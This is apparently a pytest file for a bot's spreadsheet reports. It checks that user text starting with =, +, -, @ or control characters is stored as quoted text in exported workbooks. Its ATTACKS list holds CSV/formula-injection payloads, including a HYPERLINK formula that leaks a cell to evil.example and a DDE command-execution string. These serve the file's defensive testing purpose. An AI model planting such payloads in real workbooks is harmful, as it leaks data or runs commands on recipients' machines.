"""Whatever a user typed reaches a workbook as text: never a formula, never a broken file."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from bot.services import Services
from procedures.complaints import queries as complaint_queries
from reports import complaints as complaint_reports
from reports.cells import append_row, workbook_bytes
from tests.conftest import SHANGHAI

from .helpers import file

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_that_would_be_formulas_keep_what_was_typed_marked_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    for attack in ATTACKS:
        append_row(sheet, [attack, 42])
    append_row(sheet, ["plain text", "注射器漏液", "-"])
    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    cells = [row[0] for row in reloaded.iter_rows(max_row=len(ATTACKS))]
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells)
    # exactly what was typed, no apostrophe added (XML turns a carriage return into a line feed)
    assert [cell.value for cell in cells] == [a.replace("\r", "\n") for a in ATTACKS]
    assert reloaded.cell(row=1, column=2).value == 42  # numbers stay numbers
    plain = reloaded[len(ATTACKS) + 1]
    assert [c.value for c in plain] == ["plain text", "注射器漏液", "-"]
    assert not any(c.quotePrefix for c in plain)


def test_a_write_only_workbook_keeps_a_formula_like_string_as_text() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    append_row(sheet, ['=HYPERLINK("http://x","y")'])
    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    cell = reloaded["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (
        '=HYPERLINK("http://x","y")',
        "s",
        True,
    )


async def test_a_ledger_with_formulas_and_control_characters_in_descriptions_still_opens(
    services: Services, samples: None
) -> None:
    await file(services, "C001", description='=HYPERLINK("http://x","y")')
    await file(services, "C003", description="leaks\x0b at the tip")
    await file(services, "C001", description="ordinary")

    async with services.session_factory() as session:
        rows = await complaint_queries.ledger_rows(session)
    buffer = io.BytesIO()
    await complaint_reports.write_ledger(
        rows, buffer, lambda key, **params: key, SHANGHAI, "=title"
    )
    sheet = load_workbook(buffer).active
    assert (sheet["A1"].value, sheet["A1"].quotePrefix) == ("=title", True)
    header = [cell.value for cell in sheet[2]]  # under the title row
    column = header.index("report.column.description") + 1
    descriptions = [sheet.cell(row=r, column=column) for r in range(3, 6)]
    assert [c.value for c in descriptions] == [
        '=HYPERLINK("http://x","y")',
        "leaks at the tip",
        "ordinary",
    ]
    assert all(c.data_type == "s" for c in descriptions)
    assert [c.quotePrefix for c in descriptions] == [True, False, False]
